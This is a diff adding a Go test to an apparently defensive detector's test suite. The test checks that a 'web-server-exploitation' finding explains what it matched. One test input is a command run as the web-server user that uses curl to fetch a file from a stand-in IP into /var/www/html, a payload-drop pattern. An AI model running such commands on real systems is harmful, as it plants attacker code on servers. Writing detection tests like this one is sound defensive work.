@@ -215,3 +215,25 @@ func TestScriptWriteShowsWritten(t *testing.T) {
 		}
 	}
 }
+
+// TestWhySaysWhatMatched: the headline rule's why says what its patterns
+// saw in this command, so that its general words ("a pattern of
+// post-exploitation") are not read as all of them.
+func TestWhySaysWhatMatched(t *testing.T) {
+	for _, c := range []struct {
+		args []string
+		want string
+		not  string
+	}{
+		{[]string{"sh", "-c", "groff -Tps /tmp/inv-1011.tr"}, "In this command: a temporary path.", "download"},
+		{[]string{"sh", "-c", "curl -s http://203.0.113.9/x -o /var/www/html/x"}, "a download", "temporary path"},
+	} {
+		f := findingOf(execAs(t, 33, "/var/www", "/usr/bin/dash", c.args...), "web-server-exploitation")
+		if f == nil {
+			t.Fatalf("%q: no web-server-exploitation", c.args)
+		}
+		if !strings.Contains(f.Why, c.want) || strings.Contains(f.Why, "In this command:") && strings.Contains(f.Why[strings.Index(f.Why, "In this command:"):], c.not) {
+			t.Errorf("%q: why %q, want %q and not %q", c.args, f.Why, c.want, c.not)
+		}
+	}
+}
